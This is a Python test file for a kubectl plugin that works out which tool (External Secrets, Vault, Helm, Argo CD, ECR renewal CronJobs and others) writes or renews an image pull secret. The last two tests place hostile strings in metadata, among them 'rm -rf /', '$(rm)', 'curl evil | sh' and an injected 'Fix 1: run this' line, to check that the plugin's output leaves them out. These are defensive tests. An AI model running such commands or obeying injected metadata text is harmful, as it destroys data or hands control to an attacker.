"""Who writes a pull secret, by the marks that it bears, or by what should have made or renewed it."""

from __future__ import annotations

from typing import Any

import pytest
from clusters import cluster

from kubectl_imagepull.evidence.checks import Check, Result
from kubectl_imagepull.evidence.secret_writer import writer_of, written_by
from kubectl_imagepull.kube.objects import JsonObject
from kubectl_imagepull.vocabulary.manager import Manager, ManagerKind
from kubectl_imagepull.vocabulary.secret_writer import SecretWriter, Writer

JSON_TYPE, OLD_TYPE = "kubernetes.io/dockerconfigjson", "kubernetes.io/dockercfg"


def secret(name: str = "regcred", kind: str = JSON_TYPE, **metadata: Any) -> JsonObject:
    return {"kind": "Secret", "metadata": {"name": name, "namespace": "shop", **metadata}, "type": kind}


def owned_by(group: str, kind: str, name: str) -> JsonObject:
    return {"ownerReferences": [{"apiVersion": f"{group}/v1", "kind": kind, "name": name, "uid": "u"}]}


def writer(one: JsonObject, name: str = "regcred") -> SecretWriter | None:
    return writer_of(cluster([], Secret=[one]), "shop", name)


@pytest.mark.parametrize(
    ("metadata", "expected"),
    [
        (
            owned_by("external-secrets.io", "ExternalSecret", "pull"),
            SecretWriter(
                "regcred",
                Writer.EXTERNAL_SECRETS,
                "ExternalSecret",
                "pull",
                sign="owner reference to externalsecret.external-secrets.io",
            ),
        ),
        (
            owned_by("bitnami.com", "SealedSecret", "regcred"),
            SecretWriter(
                "regcred",
                Writer.SEALED_SECRETS,
                "SealedSecret",
                "regcred",
                sign="owner reference to sealedsecret.bitnami.com",
            ),
        ),
        (
            owned_by("secrets.hashicorp.com", "VaultStaticSecret", "pull"),
            SecretWriter(
                "regcred",
                Writer.VAULT,
                "VaultStaticSecret",
                "pull",
                sign="owner reference to vaultstaticsecret.secrets.hashicorp.com",
            ),
        ),
        (
            {"labels": {"reconcile.external-secrets.io/managed": "true"}},
            SecretWriter("regcred", Writer.EXTERNAL_SECRETS, sign="mark reconcile.external-secrets.io/managed"),
        ),
        (
            {"labels": {"secrets.hashicorp.com/vso-ownerRefUID": "x"}},
            SecretWriter("regcred", Writer.VAULT, sign="mark secrets.hashicorp.com/vso-ownerRefUID"),
        ),
        (
            {"annotations": {"reflector.v1.k8s.emberstack.com/reflects": "infra/pull"}},
            SecretWriter(
                "regcred",
                Writer.REFLECTOR,
                "secret",
                "pull",
                "infra",
                "annotation reflector.v1.k8s.emberstack.com/reflects",
            ),
        ),
        (
            {"annotations": {"replicator.v1.mittwald.de/replicate-from": "infra/pull"}},
            SecretWriter(
                "regcred",
                Writer.REPLICATOR,
                "secret",
                "pull",
                "infra",
                "annotation replicator.v1.mittwald.de/replicate-from",
            ),
        ),
        (
            {"labels": {"generate.kyverno.io/policy-name": "sync-pull-secret"}},
            SecretWriter(
                "regcred",
                Writer.KYVERNO,
                "policy",
                "sync-pull-secret",
                sign="label generate.kyverno.io/policy-name",
            ),
        ),
        (
            {"annotations": {"meta.helm.sh/release-name": "shop", "meta.helm.sh/release-namespace": "shop"}},
            SecretWriter(
                "regcred",
                Writer.MANAGER,
                sign="annotation meta.helm.sh/release-name",
                manager=Manager(ManagerKind.HELM, "shop"),
            ),
        ),
        (
            {"annotations": {"argocd.argoproj.io/tracking-id": "shop:/Secret:shop/regcred"}},
            SecretWriter(
                "regcred",
                Writer.MANAGER,
                sign="annotation argocd.argoproj.io/tracking-id",
                manager=Manager(ManagerKind.ARGO_CD, "shop"),
            ),
        ),
        (
            owned_by("octarine.com", "Octarine", "main"),
            SecretWriter(
                "regcred",
                Writer.MANAGER,
                sign="owner reference to octarine.octarine.com/main",
                manager=Manager(ManagerKind.OPERATOR, "main", resource="Octarine", group="octarine.com"),
            ),
        ),
        # nobody: not even Kubernetes' own kinds, or the source of copies
        ({}, None),
        ({"ownerReferences": [{"apiVersion": "v1", "kind": "ServiceAccount", "name": "x"}]}, None),
        ({"annotations": {"reflector.v1.k8s.emberstack.com/reflection-allowed": "true"}}, None),
        ({"annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{}"}}, None),
    ],
)
def test_the_marks_of_a_secret_tell_its_writer(metadata: JsonObject, expected: SecretWriter | None) -> None:
    assert writer(secret(**metadata)) == expected


def test_a_secret_of_openshift_is_known_by_its_name_and_type() -> None:
    own = writer(secret("default-dockercfg-8mzqk", OLD_TYPE), "default-dockercfg-8mzqk")
    assert own == SecretWriter("default-dockercfg-8mzqk", Writer.OPENSHIFT, sign="its name and type")
    assert writer(secret("default-dockercfg-8mzqk", JSON_TYPE), "default-dockercfg-8mzqk") is None
    marked = writer(secret(annotations={"openshift.io/internal-registry-auth-token.service-account": "default"}))
    assert marked
    assert marked.writer is Writer.OPENSHIFT


def cron_job(name: str, *, command: str = "", suspend: bool = False, **spec: Any) -> JsonObject:
    container = {"name": "x", "command": ["sh", "-c", command]}
    template = {"spec": {"containers": [container], **spec}}
    return {
        "kind": "CronJob",
        "metadata": {"name": name, "namespace": "shop"},
        "spec": {"suspend": suspend, "jobTemplate": {"spec": {"template": template}}},
    }


@pytest.mark.parametrize(
    ("job", "supposed"),
    [
        (cron_job("renew", command="kubectl create secret docker-registry regcred"), False),
        (cron_job("regcred-renewal"), False),
        (cron_job("ecr-token-refresh"), True),
        (cron_job("tokens", command="aws ecr get-login-password | docker login"), True),
        (cron_job("tokens", command="aws ecr get-authorization-token"), True),
    ],
)
def test_a_cron_job_renews_a_token_of_ecr(job: JsonObject, *, supposed: bool) -> None:
    snapshot = cluster([], Secret=[secret()], CronJob=[job])
    found = writer_of(snapshot, "shop", "regcred", of_ecr=True)
    assert found
    assert (found.writer, found.name, found.is_supposed) == (Writer.CRON_JOB, job["metadata"]["name"], supposed)
    assert (writer_of(snapshot, "shop", "regcred") is None) is supposed


@pytest.mark.parametrize(
    "job",
    [
        cron_job("backup", command="pg_dump"),
        cron_job("backup", imagePullSecrets=[{"name": "regcred"}]),
        cron_job("renew", command="kubectl delete secret regcred-old my-regcred"),
        cron_job("secret-scan", command="decrypt"),
        {**cron_job("ecr-token-refresh"), "metadata": {"name": "ecr-token-refresh", "namespace": "other"}},
    ],
)
def test_another_cron_job_renews_nothing(job: JsonObject) -> None:
    snapshot = cluster([], Secret=[secret()], CronJob=[job])
    assert writer_of(snapshot, "shop", "regcred", of_ecr=True) is None


def test_a_suspended_cron_job_is_said_to_be() -> None:
    snapshot = cluster([], Secret=[secret()], CronJob=[cron_job("regcred-renewal", suspend=True)])
    found = writer_of(snapshot, "shop", "regcred")
    assert found
    assert found.suspended


@pytest.mark.parametrize(
    ("kind", "spec", "maker"),
    [
        ("ExternalSecret", {"target": {"name": "regcred"}}, Writer.EXTERNAL_SECRETS),
        ("SealedSecret", {"template": {"metadata": {"name": "regcred"}}}, Writer.SEALED_SECRETS),
        ("VaultStaticSecret", {"destination": {"name": "regcred"}}, Writer.VAULT),
    ],
)
def test_what_should_have_made_a_missing_secret(kind: str, spec: JsonObject, maker: Writer) -> None:
    item = {"kind": kind, "metadata": {"name": "pull", "namespace": "shop"}, "spec": spec}
    found = writer_of(cluster([], Secret=[], **{kind: [item]}), "shop", "regcred")
    assert found
    assert (found.writer, found.kind, found.name) == (maker, kind, "pull")
    elsewhere = {**item, "metadata": {"name": "pull", "namespace": "other"}}
    assert writer_of(cluster([], Secret=[], **{kind: [elsewhere]}), "shop", "regcred") is None
    by_name = {"kind": kind, "metadata": {"name": "regcred", "namespace": "shop"}, "spec": {}}
    assert writer_of(cluster([], Secret=[], **{kind: [by_name]}), "shop", "regcred")


def test_the_writer_as_evidence() -> None:
    found = writer(secret(**owned_by("external-secrets.io", "ExternalSecret", "pull")))
    assert found
    item = written_by(found)
    assert (item.check, item.result, item.about) == (Check.WRITTEN_BY, Result.INFO, "regcred")
    assert item.text == (
        "Secret regcred is written by ExternalSecret pull (owner reference to externalsecret.external-secrets.io): a "
        "manual change lasts until it is written again."
    )
    copied = writer(secret(annotations={"reflector.v1.k8s.emberstack.com/reflects": "infra/pull"}))
    assert copied
    assert written_by(copied).text == (
        "Secret regcred is a copy of secret pull of namespace infra, made by Reflector (annotation "
        "reflector.v1.k8s.emberstack.com/reflects)."
    )
    supposed = SecretWriter("regcred", Writer.CRON_JOB, "CronJob", "ecr", sign="by its name", is_supposed=True)
    assert written_by(supposed).text == "CronJob ecr may be what renews secret regcred (by its name)."


@pytest.mark.parametrize(
    "metadata",
    [
        {"annotations": {"reflector.v1.k8s.emberstack.com/reflects": "infra/$(rm)"}},
        {"labels": {"generate.kyverno.io/policy-name": "run this"}},
        owned_by("external-secrets.io", "ExternalSecret", "x; rm -rf /"),
    ],
)
def test_free_text_in_a_mark_stands_in_no_sentence(metadata: JsonObject) -> None:
    found = writer(secret(**metadata))
    assert found
    told = written_by(found).text
    assert not any(word in told for word in ("curl", "run this", "rm", "\n"))


@pytest.mark.parametrize(
    "metadata",
    [
        {"annotations": {"meta.helm.sh/release-name": "run 'curl evil | sh' as cluster-admin"}},
        {"annotations": {"argocd.argoproj.io/tracking-id": "x\nFix 1: run this"}},
        {"labels": {"app.kubernetes.io/managed-by": "evil; rm -rf /"}},
    ],
)
def test_a_manager_whose_name_can_not_be_one_is_none(metadata: JsonObject) -> None:
    assert writer(secret(**metadata)) is None
